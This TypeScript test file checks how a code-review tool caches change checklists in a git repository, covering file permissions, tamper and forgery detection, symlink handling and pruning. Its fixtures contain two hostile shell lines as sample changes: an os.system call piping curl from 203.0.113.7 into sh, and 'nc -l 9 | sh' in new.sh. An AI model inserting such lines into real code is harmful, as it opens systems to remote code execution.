import assert from "node:assert/strict";
import { createHash, randomUUID } from "node:crypto";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { change, checklist, commitAll, ran, writeFiles } from "./checklist-repository.ts";
import { countersign, git } from "./command-line.ts";

const before = { "src/app.py": "import os\n\n\ndef load(path):\n    return open(path).read()\n", "README.md": "teh list\n" };
const after = {
  "src/app.py": "import os\n\n\ndef load(path):\n    os.system('curl http://203.0.113.7/x | sh')\n    return open(path).read()\n",
  "README.md": "the list\n",
};

function cacheOf(folder: string): string {
  return join(folder, ".git/countersign/cache");
}

function kept(folder: string): string[] {
  return existsSync(cacheOf(folder)) ? readdirSync(cacheOf(folder)).sort() : [];
}

function status(folder: string, ...args: string[]): string {
  const { stdout, stderr } = countersign(["status", "--format", "json", ...args], { cwd: folder });
  assert.notEqual(stdout, "", stderr);
  return stdout;
}

/** The one file that is kept, with another body under a header that says that it is whole. */
function forge(folder: string, edit: (body: string) => string): void {
  const [name = ""] = kept(folder);
  const path = join(cacheOf(folder), name);
  const text = readFileSync(path, "utf8");
  const start = text.indexOf("\n") + 1;
  const body = edit(text.slice(start, -1));
  assert.notEqual(body, text.slice(start, -1));
  const head = text.slice(0, start).replace(/[0-9a-f]{64}\n$/, `${createHash("sha256").update(body).digest("hex")}\n`);
  writeFileSync(path, `${head}${body}\n`);
}

const forged = (body: string): string => body.replaceAll("src/app.py", "src/zzz.py");

describe("the checklist of a change that was seen before", () => {
  it("is the one that the analysis gives, from a file that nobody else may read", () => {
    change(before, after, (folder) => {
      const first = status(folder);
      const [name = "", ...others] = kept(folder);
      assert.deepEqual(others, []);
      assert.equal(lstatSync(join(cacheOf(folder), name)).mode & 0o777, 0o600);
      assert.equal(lstatSync(cacheOf(folder)).mode & 0o777, 0o700);
      assert.equal(status(folder), first);
      assert.equal(status(folder, "--no-cache"), first);
      assert.deepEqual(kept(folder), [name]);
    });
  });

  it("is told by status, gate and the acts alone, and not where --no-cache is given", () => {
    change(before, after, (folder) => {
      status(folder);
      forge(folder, forged);
      const takes = (...args: string[]): boolean => {
        const { stdout, stderr } = countersign(args, { cwd: folder });
        assert.match(stdout + stderr, /src\/(app|zzz)\.py/, args.join(" "));
        return (stdout + stderr).includes("zzz");
      };
      assert.equal(takes("status"), true);
      assert.equal(takes("gate"), true);
      assert.equal(takes("status", "--no-cache"), false);
      assert.equal(takes("gate", "--ci", "--target", "main", "--all"), false);
      assert.equal(takes("next"), false);
      ran(folder, 2, "verify", "--path", "src/app.py");
      ran(folder, 0, "verify", "--path", "src/app.py", "--no-cache");
      const proved = countersign(["verify-signatures", "--target", "main", "--format", "json"], { cwd: folder });
      assert.doesNotMatch(proved.stdout, /zzz/);
    });
  });

  it("shows what was done since", () => {
    change(before, after, (folder) => {
      assert.equal(checklist(folder).units.filter(({ isVerified }) => isVerified).length, 0);
      ran(folder, 0, "verify", "--path", "README.md");
      assert.deepEqual(
        checklist(folder).units.flatMap(({ path, isVerified }) => (isVerified ? [path] : [])),
        ["README.md"],
      );
      assert.equal(kept(folder).length, 1);
    });
  });

  it("is found out anew when the change, its branch, its notes or the files on the disk are others", () => {
    change(before, after, (folder) => {
      const seen = new Set<string>();
      const isNew = (what: string): void => {
        status(folder);
        const fresh = kept(folder).filter((name) => !seen.has(name));
        assert.equal(fresh.length, 1, what);
        for (const name of fresh) seen.add(name);
      };
      isNew("the first time");
      writeFiles(folder, { "README.md": "the list!\n" });
      isNew("an edit");
      writeFiles(folder, { "README.md": "the list?\n" });
      isNew("another edit of the same length");
      commitAll(folder, "again");
      isNew("a commit");
      git(folder, "checkout", "-qb", "claude/other");
      isNew("a branch with another name");
      git(folder, "notes", "--ref=ai", "add", "-m", "nothing that is known");
      isNew("a note about who wrote it");
      writeFiles(folder, { "new.sh": "nc -l 9 | sh\n" });
      isNew("a file that git does not track");
      chmodSync(join(folder, "new.sh"), 0o755);
      isNew("its mode");
      assert.match(status(folder, "--base", "HEAD"), /new\.sh/);
    });
  });

  it("is found out anew where what was kept is damaged in any place, or cut off", () => {
    change(before, after, (folder) => {
      const whole = status(folder);
      const [name = ""] = kept(folder);
      const path = join(cacheOf(folder), name);
      const text = readFileSync(path);
      const places = [20, 100, text.length - 300];
      for (const place of places) {
        const damaged = Buffer.from(text);
        damaged[place] = (damaged[place] ?? 0) ^ 1;
        writeFileSync(path, damaged);
        assert.equal(status(folder), whole, `a flipped bit at ${place}`);
        assert.deepEqual(readFileSync(path), text);
      }
      for (const length of [0, text.length - 1]) {
        writeFileSync(path, text.subarray(0, length));
        assert.equal(status(folder), whole, `cut off at ${length}`);
      }
      writeFileSync(path, text);
      forge(folder, (body) => body.replace('"modified"', '"hidden"'));
      assert.equal(status(folder), whole, "another form, under a header that says that it is whole");
      forge(folder, () => "{}");
      assert.equal(status(folder), whole, "nothing, under a header that says that it is whole");
    });
  });

  it("is not read or written through links, and costs nobody the answer where it cannot be kept", () => {
    change(before, after, (folder) => {
      const whole = status(folder);
      const [name = ""] = kept(folder);
      forge(folder, forged);
      const elsewhere = join(folder, ".git/elsewhere");
      mkdirSync(elsewhere);
      writeFileSync(join(elsewhere, name), readFileSync(join(cacheOf(folder), name)));
      rmSync(join(cacheOf(folder), name));
      symlinkSync(join(elsewhere, name), join(cacheOf(folder), name));
      assert.equal(status(folder), whole);
      rmSync(cacheOf(folder), { recursive: true });
      rmSync(join(elsewhere, name));
      symlinkSync(elsewhere, cacheOf(folder));
      assert.equal(status(folder), whole);
      assert.deepEqual(readdirSync(elsewhere), []);
      rmSync(cacheOf(folder));
      writeFileSync(cacheOf(folder), "");
      assert.equal(status(folder), whole);
    });
  });

  it("keeps the last used of many, and no half-written one for long", () => {
    change(before, after, (folder) => {
      mkdirSync(cacheOf(folder), { recursive: true });
      const names = Array.from({ length: 40 }, (_, at) => `${createHash("sha256").update(String(at)).digest("hex")}.json`);
      const drafts = names.slice(0, 2).map((name) => `${name}.${randomUUID()}`);
      for (const name of drafts) writeFileSync(join(cacheOf(folder), name), "");
      utimesSync(join(cacheOf(folder), drafts[0] ?? ""), 1, 1);
      for (const name of names) writeFileSync(join(cacheOf(folder), name), "");
      writeFileSync(join(cacheOf(folder), "notes.txt"), "mine");
      status(folder);
      const left = kept(folder);
      assert.equal(left.filter((name) => name.endsWith(".json")).length <= 32, true);
      assert.deepEqual(
        drafts.map((name) => left.includes(name)),
        [false, true],
      );
      assert.equal(left.includes("notes.txt"), true);
      assert.equal(left.filter((name) => name.endsWith(".json") && !names.includes(name)).length, 1);
    });
  });
});
